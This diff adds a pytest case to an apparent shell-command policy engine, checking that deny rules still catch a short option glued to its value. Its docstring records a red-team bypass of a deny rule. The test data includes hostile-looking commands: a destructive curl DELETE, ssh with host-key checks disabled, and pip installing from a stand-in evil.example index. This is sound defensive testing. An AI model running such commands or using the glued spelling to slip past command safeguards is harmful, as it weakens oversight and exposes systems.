@@ -240,3 +240,33 @@ def test_a_deny_pattern_hits_the_line_that_spells_it(program: str, rest: list[st
         return  # refused with a reason: never a rule that silently denies nothing
     line = " ".join(["prog" if program == "*" else program, *rest])
     assert occurs(text, line), (text, line)
+
+
+@pytest.mark.parametrize(
+    ("pattern", "line"),
+    [
+        ("curl -X DELETE", "curl -XDELETE https://api.example/x"),
+        ("ssh -o StrictHostKeyChecking=no", "ssh -oStrictHostKeyChecking=no host"),
+        ("pip install -i https://evil.example", "pip install -ihttps://evil.example x"),
+    ],
+)
+def test_a_deny_hits_a_value_glued_to_its_short_option(
+    tmp_path: Path, pattern: str, line: str
+) -> None:
+    """Red team, round 32, second look: with an allow of the program beside it, the glued
+    spelling of the deny's option and value was allowed; where the value starts is the
+    program's to say, so every tail of a short option's word is a word to a deny."""
+    program = pattern.split()[0]
+    policy = tmp_path / "p.yaml"
+    policy.write_text(
+        "apiVersion: toolpolicy/v1\nkind: Policy\nname: p\nextends: P03\nrules:\n"
+        "  - name: no-x\n    behavior: deny\n    reason: refused\n    match:\n"
+        f'      tools: [shell]\n      commands: ["{pattern}"]\n'
+        "  - name: any\n    behavior: allow\n    reason: ok\n    match:\n"
+        f'      tools: [shell]\n      commands: ["{program} *"]\n',
+        encoding="utf-8",
+    )
+    checked = load(str(policy), workspace=tmp_path)
+    decided = checked.check("shell", {"command": line})
+    assert (decided.behavior.label, decided.source) == ("deny", "no-x")
+    assert occurs(pattern, line)
